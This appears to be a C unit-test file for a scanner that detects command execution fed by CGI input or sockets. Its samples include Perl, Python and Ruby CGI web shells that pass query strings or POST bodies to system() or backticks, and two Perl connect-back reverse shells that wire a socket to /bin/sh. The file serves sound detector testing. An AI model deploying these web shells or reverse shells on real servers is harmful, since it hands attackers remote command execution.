/* script_flow (scan/script_flow.h) on CGI programs and classic connect-back
 * shells, session 22: the request read from the CGI environment
 * (QUERY_STRING, HTTP_*, PATH_INFO) or from stdin when the program reads
 * CONTENT_LENGTH; Perl globals set in a parse sub and read at top level;
 * split() of $_; Perl's punctuation variables ($` $' $$) that used to
 * open a command or a string; a shell kept in a variable and run with a
 * socket made stdin; values that are only numbers (length, int) are not
 * commands. Every sample is written here; none is run. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "scan/script_flow.h"

static void expect_path(const char *src, const char *want)
{
	struct sf_result r;
	int n = script_flow_analyze((const unsigned char *)src, strlen(src), NULL, &r);
	if (n == 0)
		fail_msg("no finding for:\n%s", src);
	bool ok = false;
	for (int i = 0; i < r.nhits; i++)
		ok |= !r.hits[i].code && strstr(r.hits[i].path, want) != NULL;
	if (!ok)
		fail_msg("path %s lacks %s for:\n%s", r.hits[0].path, want, src);
}

static void expect_clean(const char *src)
{
	struct sf_result r;
	if (script_flow_analyze((const unsigned char *)src, strlen(src), NULL, &r))
		fail_msg("finding %s for:\n%s", r.hits[0].path, src);
}

static void test_cgi_environment(void **state)
{
	(void)state;
	/* the query string parsed into a hash, one key run */
	expect_path("#!/usr/bin/perl\n$q = $ENV{'QUERY_STRING'};\n"
	            "foreach $p (split(/&/, $q)) { ($k, $v) = split(/=/, $p); $F{$k} = $v; }\n"
	            "print \"Content-type: text/plain\\n\\n\";\nsystem($F{'cmd'});\n",
	            "QUERY_STRING");
	/* implicit $_ in the loop and in split */
	expect_path("#!/usr/bin/perl\nforeach (split(/&/, $ENV{QUERY_STRING})) {\n"
	            "  my ($n, $v) = split(/=/); $arg{$n} = $v;\n}\n"
	            "print `$arg{x}`;\n",
	            "QUERY_STRING");
	/* a header carries the command */
	expect_path("#!/usr/bin/perl\nmy $c = $ENV{HTTP_X_TOKEN};\nopen(my $ph, \"$c |\");\n"
	            "print while <$ph>;\n",
	            "HTTP_X_TOKEN");
	/* Python CGI through os.environ.get and parse_qs */
	expect_path("#!/usr/bin/env python3\nimport os, subprocess, urllib.parse\n"
	            "qs = urllib.parse.parse_qs(os.environ.get('QUERY_STRING', ''))\n"
	            "print('Content-Type: text/plain\\n')\n"
	            "print(subprocess.getoutput(qs['c'][0]))\n",
	            "QUERY_STRING");
	/* Ruby ENV[] */
	expect_path("#!/usr/bin/env ruby\nq = ENV['QUERY_STRING'].to_s.sub('c=', '')\n"
	            "puts \"Content-Type: text/plain\\n\\n\"\nputs `#{q}`\n",
	            "QUERY_STRING");
}

static void test_cgi_stdin(void **state)
{
	(void)state;
	/* POST body read from stdin into a global set in a parse sub */
	expect_path("#!/usr/bin/perl\nsub parse {\n  local ($i, $key, $val);\n"
	            "  read(STDIN, $in, $ENV{'CONTENT_LENGTH'});\n  @in = split(/&/, $in);\n"
	            "  foreach $i (0 .. $#in) {\n    ($key, $val) = split(/=/, $in[$i], 2);\n"
	            "    $in{$key} .= $val;\n  }\n}\n&parse;\n$run = $in{'c'};\n"
	            "$cmd = \"cd /tmp; \" . $run . \" 2>&1\";\nprint `$cmd`;\n",
	            "read()");
	/* sysread, and $` / $' after a match no longer swallow the file */
	expect_path("#!/usr/bin/perl\nsysread(STDIN, $body, $ENV{CONTENT_LENGTH});\n"
	            "if ($body =~ /boundary/) { $pre = $`; $post = $'; }\n"
	            "($x, $c) = split(/=/, $body, 2);\nopen(OUT, \"$c|\");\n",
	            "sysread()");
}

static void test_connect_back(void **state)
{
	(void)state;
	/* bareword socket made stdin, the shell in a variable */
	expect_path("#!/usr/bin/perl\nuse Socket;\n$shell = '/bin/sh -i';\n"
	            "socket(S, PF_INET, SOCK_STREAM, getprotobyname('tcp'));\n"
	            "connect(S, sockaddr_in($ARGV[1], inet_aton($ARGV[0])));\n"
	            "open(STDIN, \">&S\");\nopen(STDOUT, \">&S\");\nsystem($shell);\n",
	            "socket()");
	/* the variable chosen by platform */
	expect_path("#!/usr/bin/perl\nuse Socket;\n"
	            "$run = ($unix) ? ('uname -a; /bin/bash') : ('cmd.exe');\n"
	            "socket(C, PF_INET, SOCK_STREAM, 6);\nconnect(C, $addr);\n"
	            "open(STDIN, \"<&C\");\nopen(STDOUT, \">&C\");\nexec $run;\n",
	            "socket()");
}

static void test_look_alikes(void **state)
{
	(void)state;
	/* a monitor's CGI: the query picks a view, a length formats a report */
	expect_clean("#!/usr/bin/perl\nforeach my $e (split(/\\?/, $ENV{QUERY_STRING})) {\n"
	             "  my ($var, $val) = split(/=/, $e); $ARGS{$var} = $val;\n}\n"
	             "$SUMMARY = $ARGS{s};\n$SUMMARY =~ /^(.*)/s;\nmy $len = length $1;\n"
	             "my $fmt = 'format STDOUT =' . \"\\n\" . ('<' x $len) . \"\\n.\\n\";\n"
	             "eval $fmt;\n");
	/* a CGI that runs a fixed command and prints the query back */
	expect_clean("#!/usr/bin/perl\nmy $q = $ENV{QUERY_STRING};\n"
	             "print \"Content-type: text/plain\\n\\n\";\nprint \"you asked $q\\n\";\n"
	             "system('/usr/bin/uptime');\n");
	/* a CGI counting bytes of the body */
	expect_clean("#!/usr/bin/perl\nread(STDIN, $b, $ENV{CONTENT_LENGTH});\n"
	             "my $n = int(length($b) / 1024);\nsystem(\"logger\", \"got $n KB\");\n");
	/* the pid and a connect-back-free socket client running a fixed shell script */
	expect_clean("#!/usr/bin/perl\nuse IO::Socket;\nmy $pidf = \"/run/x.$$\";\n"
	             "my $s = IO::Socket::INET->new(PeerAddr => 'localhost:25');\n"
	             "print $s \"QUIT\\r\\n\";\nsystem('/bin/sh', '/usr/local/lib/rotate.sh');\n");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_cgi_environment),
	    cmocka_unit_test(test_cgi_stdin),
	    cmocka_unit_test(test_connect_back),
	    cmocka_unit_test(test_look_alikes),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
